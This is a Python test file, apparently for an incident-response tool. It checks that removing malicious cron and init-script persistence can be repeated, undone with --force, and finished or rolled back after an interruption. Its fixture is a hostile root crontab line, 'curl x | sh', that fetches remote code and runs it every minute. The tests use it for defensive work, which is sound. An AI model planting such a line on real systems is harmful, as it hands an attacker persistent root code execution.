# SPDX-License-Identifier: Apache-2.0
"""What was cleaned comes back, and what was cut off is finished or rolled back."""

import pytest

from firedamp.errors import ActionError
from firedamp.response.base import Receipt

EVIL = "* * * * * root curl x | sh"
KEPT = b"17 * * * * root run-parts /etc/cron.hourly\n"


def test_second_time_there_is_nothing_to_do(scene):
    """
    And undoing twice is as good as once.
    """
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.did(path, EVIL)
    receipts = scene.apply()

    assert scene.apply() == ()
    scene.undo(receipts)
    [again] = scene.undo(receipts)

    assert again.outcome == "undone"
    assert path.read_bytes() == KEPT + EVIL.encode() + b"\n"


def test_undo_keeps_what_came_since_and_asks_first(scene):
    """
    Without --force nothing is touched; with it, both are there.
    """
    path = scene.file("etc/crontab", EVIL.encode() + b"\n" + KEPT)
    scene.did(path, EVIL)
    receipts = scene.apply()
    with path.open("ab") as file:
        file.write(b"new\n")

    [refused] = scene.undo(receipts)
    assert (refused.outcome, path.read_bytes()) == ("refused", KEPT + b"new\n")
    assert "--force" in refused.reason

    [forced] = scene.undo(receipts, force=True)
    assert (forced.outcome, path.read_bytes()) == (
        "undone",
        EVIL.encode() + b"\n" + KEPT + b"new\n",
    )


def test_undo_makes_a_file_anew_only_when_forced(scene):
    """
    Somebody took it away since, and may have had reasons.
    """
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.did(path, EVIL)
    receipts = scene.apply()
    path.unlink()

    assert [one.outcome for one in scene.undo(receipts)] == ["refused"]
    assert not path.exists()
    assert [one.outcome for one in scene.undo(receipts, force=True)] == ["undone"]
    assert path.read_bytes() == KEPT + EVIL.encode() + b"\n"


@pytest.mark.parametrize("what", ["lines", "file"])
def test_nothing_happens_that_was_not_written_down(scene, what):
    """
    A ledger that cannot be written stops it.
    """
    path = scene.made("etc/cron.d/x", EVIL)
    if what == "lines":
        path.write_bytes(KEPT + path.read_bytes())
    before = scene.tree()

    def refuse(target, undo):
        raise ActionError("the ledger cannot be written")

    [receipt] = scene.apply(refuse)

    assert receipt.outcome == "failed"
    assert scene.tree() == before


@pytest.mark.parametrize(
    ("name", "torn"),
    [("lines", None), ("file", None), ("link", None), ("lines", 0), ("lines", 5), ("lines", 25)],
)
def test_step_that_was_cut_off_is_finished_or_rolled_back(scene, intents, name, torn):
    """
    The ledger knows what was begun; the file shows how far it came.
    """
    whole, cleaned = KEPT + EVIL.encode() + b"\n# end\n", KEPT + b"# end\n"
    path = left_behind(scene, name, whole)
    before = scene.tree()

    def die(target, undo):
        scene.intend(target, undo)
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        scene.apply(die)
    if torn is not None:
        at = len(KEPT) + torn
        path.write_bytes((cleaned[:at] + whole[at:]) if at < len(cleaned) else cleaned)
    intent = Receipt(action="clean", outcome="intended", target="t", undo=intents[0][1])

    result = scene.action.finish(intent)

    assert (result.action, result.outcome) == ("clean", "done" if torn else "failed")
    if torn:
        assert path.read_bytes() == cleaned
        assert [one.outcome for one in scene.undo([result])] == ["undone"]
    assert {path: facts[:3] for path, facts in scene.tree().items()} == {
        path: facts[:3] for path, facts in before.items()
    }


@pytest.mark.parametrize("name", ["lines", "file", "link"])
def test_step_of_which_only_the_outcome_is_missing_is_done(scene, intents, name):
    """
    The daemon died after the change, and before it could say so.
    """
    whole = KEPT + EVIL.encode() + b"\n# end\n"
    path = left_behind(scene, name, whole)
    before = scene.tree()
    scene.apply()
    gone = scene.tree()
    intent = Receipt(action="clean", outcome="intended", target="t", undo=intents[0][1])

    result = scene.action.finish(intent)

    assert result.outcome == "done"
    assert scene.tree().keys() == gone.keys()
    assert name != "lines" or path.read_bytes() == KEPT + b"# end\n"
    assert [one.outcome for one in scene.undo([result])] == ["undone"]
    assert scene.tree().keys() == before.keys()


def left_behind(scene, name, whole):
    """Something that the actor did, of one kind."""
    if name == "lines":
        path = scene.file("etc/crontab", whole)
        scene.did(path, EVIL)
    elif name == "file":
        path = scene.made("etc/cron.d/x", EVIL)
    else:
        path = scene.file("etc/rc2.d/S01x")
        path.unlink()
        path.symlink_to("/etc/init.d/x")
        scene.did(path, operation="link")
    return path
